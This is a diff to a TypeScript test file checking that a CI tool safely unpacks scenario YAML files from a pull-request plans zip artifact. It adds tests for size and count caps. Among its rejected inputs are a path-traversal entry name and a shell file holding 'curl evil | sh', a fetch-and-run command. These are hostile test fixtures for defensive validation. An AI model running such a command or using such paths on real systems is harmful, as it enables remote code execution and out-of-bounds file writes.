@@ -6,7 +6,7 @@ import * as fs from "node:fs";
 import * as os from "node:os";
 import * as path from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { acceptPrPlans, ARTIFACT_LIMITS, main } from "../tools/ci/pr-plans";
+import { acceptPrPlans, ARTIFACT_LIMITS, main, SCENARIO_ENTRY_LIMITS } from "../tools/ci/pr-plans";
 import { ArtifactError, readZip } from "../tools/ci/zip";
 import { planJson } from "../plan/plan";
 import { craftPlan } from "./diff-fixtures";
@@ -207,7 +207,55 @@ describe("the pr-plans artifact", () => {
 
   it("is refused when it has more entries than the cap.", () => {
     const many = Array.from({ length: ARTIFACT_LIMITS.maxEntries + 1 }, (_, i) => ({ name: `f${i}`, data: "x" }));
-    expect(() => readZip(makeZip(many), ARTIFACT_LIMITS)).toThrow(/65 entries, over the cap of 64/);
+    expect(() => readZip(makeZip(many), ARTIFACT_LIMITS)).toThrow(/257 entries, over the cap of 256/);
+  });
+});
+
+describe("the head's scenario files in the pr-plans artifact (data for the diff's behaviour section)", () => {
+  const SCENARIO = "name: one overspend pages once\nstart: 2026-03-02T00:00:00Z\nduration: 3d\nexpect:\n  - monitor: cost-budget\n";
+
+  it("are accepted, optional, and written byte for byte under scenarios/ next to the plans.", () => {
+    const { call, out } = accept([...good(), { name: "scenarios/", method: 0 }, { name: "scenarios/overspend.yaml", data: SCENARIO }]);
+    expect(call().headSha).toBe(HEAD);
+    expect(fs.readFileSync(path.join(out, "scenarios", "overspend.yaml"), "utf8")).toBe(SCENARIO);
+    expect(fs.readdirSync(path.join(out, "scenarios"))).toEqual(["overspend.yaml"]);
+  });
+
+  it.each<[string, FakeEntry, RegExp]>([
+    ["a scenario file one directory too deep", { name: "scenarios/x/y.yaml", data: SCENARIO }, /unexpected entries: scenarios\/x\/y\.yaml/],
+    [
+      "a scenario path that climbs out",
+      { name: "scenarios/../../x.yaml", data: SCENARIO },
+      /unexpected entries: scenarios\/\.\.\/\.\.\/x\.yaml/,
+    ],
+    [
+      "a file under scenarios/ that is not YAML by name",
+      { name: "scenarios/run.sh", data: "curl evil | sh" },
+      /unexpected entries: scenarios\/run\.sh/,
+    ],
+    ["a scenario file that is not YAML", { name: "scenarios/bad.yaml", data: "a: [1, 2" }, /scenarios\/bad\.yaml: is not valid YAML/],
+    [
+      "a scenario file that is not a mapping",
+      { name: "scenarios/list.yaml", data: "- 1\n- 2\n" },
+      /scenarios\/list\.yaml: must be a YAML mapping/,
+    ],
+    ["a scenario file that is not UTF-8", { name: "scenarios/bin.yaml", data: Buffer.from([0x6e, 0x3a, 0xff, 0xfe]) }, /is not UTF-8 text/],
+    [
+      "a scenario file over the size cap",
+      { name: "scenarios/big.yaml", data: `name: x\nnote: ${"x".repeat(SCENARIO_ENTRY_LIMITS.bytes)}\n` },
+      /scenarios\/big\.yaml: \d+ bytes; a scenario file may have at most 262144/,
+    ],
+  ])("are refused for %s, and nothing is written.", (_case, entry, message) => {
+    const { call, out } = accept([...good(), entry]);
+    expect(call).toThrow(ArtifactError);
+    expect(call).toThrow(message);
+    expect(fs.existsSync(out)).toBe(false);
+  });
+
+  it("are refused past the cap on their number.", () => {
+    const many = Array.from({ length: SCENARIO_ENTRY_LIMITS.files + 1 }, (_, i) => ({ name: `scenarios/s${i}.yaml`, data: SCENARIO }));
+    const { call } = accept([...good(), ...many]);
+    expect(call).toThrow(/201 scenario files; at most 200 are accepted/);
   });
 });
 
